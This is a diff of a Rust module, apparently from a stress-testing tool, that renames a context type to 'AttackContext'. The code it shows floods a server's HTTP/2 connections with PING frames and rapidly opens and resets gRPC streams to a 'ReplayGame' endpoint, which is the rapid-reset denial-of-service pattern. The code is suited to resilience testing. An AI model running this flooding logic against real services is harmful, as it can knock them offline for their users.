@@ -12,7 +12,7 @@ use tokio::{
 };
 
 use super::{
-    Scene,
+    AttackContext,
     floods::full_replay,
     frames::{self, Frames, kind},
     held::framed,
@@ -34,49 +34,53 @@ const LAST_STREAM: u32 = (1 << 31) - 1 - CALLS * STEP;
 const READ: usize = 64 * 1_024;
 
 /// Sends pings.
-pub fn pings(scene: &Scene, tasks: &mut JoinSet<()>) {
+pub fn pings(context: &AttackContext, tasks: &mut JoinSet<()>) {
     for _ in 0..CONNECTIONS {
-        keep_doing(tasks, scene, async |scene| connection(scene, kind::PING, ping).await);
+        keep_doing(tasks, context, async |context| connection(context, kind::PING, ping).await);
     }
 }
 
 /// Opens calls and resets them.
-pub fn resets(scene: &Scene, tasks: &mut JoinSet<()>) {
+pub fn resets(context: &AttackContext, tasks: &mut JoinSet<()>) {
     for _ in 0..CONNECTIONS {
-        keep_doing(tasks, scene, async |scene| connection(scene, kind::HEADERS, open_and_reset).await);
+        keep_doing(tasks, context, async |context| connection(context, kind::HEADERS, open_and_reset).await);
     }
 }
 
 /// One connection until the server ends it. Frames of the kind `answer` are answers.
 async fn connection(
-    scene: &Scene,
+    context: &AttackContext,
     answer: u8,
-    attack: impl AsyncFn(&Scene, OwnedWriteHalf, &Notify) -> Result<(), Setback>,
+    attack: impl AsyncFn(&AttackContext, OwnedWriteHalf, &Notify) -> Result<(), Setback>,
 ) -> Result<(), Setback> {
-    let socket = TcpStream::connect(scene.address).await?;
+    let socket = TcpStream::connect(context.address).await?;
     socket.set_nodelay(true)?;
     let (reading, mut writing) = socket.into_split();
     writing.write_all(&frames::greeting()).await?;
     let ping_answered = Notify::new();
     tokio::select! {
-        ended = read(scene, reading, answer, &ping_answered) => ended,
-        ended = attack(scene, writing, &ping_answered) => ended,
+        ended = read(context, reading, answer, &ping_answered) => ended,
+        ended = attack(context, writing, &ping_answered) => ended,
     }
 }
 
-async fn ping(scene: &Scene, mut socket: OwnedWriteHalf, _: &Notify) -> Result<(), Setback> {
+async fn ping(context: &AttackContext, mut socket: OwnedWriteHalf, _: &Notify) -> Result<(), Setback> {
     let pings = frames::pings(PINGS);
     loop {
         socket.write_all(&pings).await?;
-        scene.counts.begin(PINGS as u64);
+        context.counts.begin(PINGS as u64);
         // The socket may take it all at once for ever; the reader has its turn too.
         tokio::task::yield_now().await;
     }
 }
 
-async fn open_and_reset(scene: &Scene, mut socket: OwnedWriteHalf, ping_answered: &Notify) -> Result<(), Setback> {
-    let headers = frames::grpc_headers(&scene.address.to_string(), "/divelog.v1.AuditService/ReplayGame");
-    let message = framed(&full_replay(&scene.finished));
+async fn open_and_reset(
+    context: &AttackContext,
+    mut socket: OwnedWriteHalf,
+    ping_answered: &Notify,
+) -> Result<(), Setback> {
+    let headers = frames::grpc_headers(&context.address.to_string(), "/divelog.v1.AuditService/ReplayGame");
+    let message = framed(&full_replay(&context.finished));
     let ping = frames::pings(1);
     let mut out = BytesMut::new();
     for first in (1..LAST_STREAM).step_by((CALLS * STEP) as usize) {
@@ -84,7 +88,7 @@ async fn open_and_reset(scene: &Scene, mut socket: OwnedWriteHalf, ping_answered
         out.clear();
         streams().for_each(|stream| frames::call(&mut out, stream, &headers, &message));
         socket.write_all(&out).await?;
-        scene.counts.begin(CALLS.into());
+        context.counts.begin(CALLS.into());
         tokio::task::yield_now().await;
         out.clear();
         streams().for_each(|stream| frames::reset(&mut out, stream));
@@ -96,7 +100,12 @@ async fn open_and_reset(scene: &Scene, mut socket: OwnedWriteHalf, ping_answered
 }
 
 /// Reads what comes, and counts it.
-async fn read(scene: &Scene, mut socket: OwnedReadHalf, answer: u8, ping_answered: &Notify) -> Result<(), Setback> {
+async fn read(
+    context: &AttackContext,
+    mut socket: OwnedReadHalf,
+    answer: u8,
+    ping_answered: &Notify,
+) -> Result<(), Setback> {
     let mut buffer = vec![0; READ];
     let mut frames = Frames::default();
     let mut went_away = false;
@@ -111,9 +120,9 @@ async fn read(scene: &Scene, mut socket: OwnedReadHalf, answer: u8, ping_answere
                 ping_answered.notify_one();
             }
         });
-        scene.counts.answer(answers);
+        context.counts.answer(answers);
         for _ in 0..resets {
-            scene.counts.set_back(Setback::Refused("the server reset a call".to_owned()));
+            context.counts.record_setback(Setback::Refused("the server reset a call".to_owned()));
         }
         if went_away {
             return Err(Setback::CutOff("the server sent GOAWAY".to_owned()));
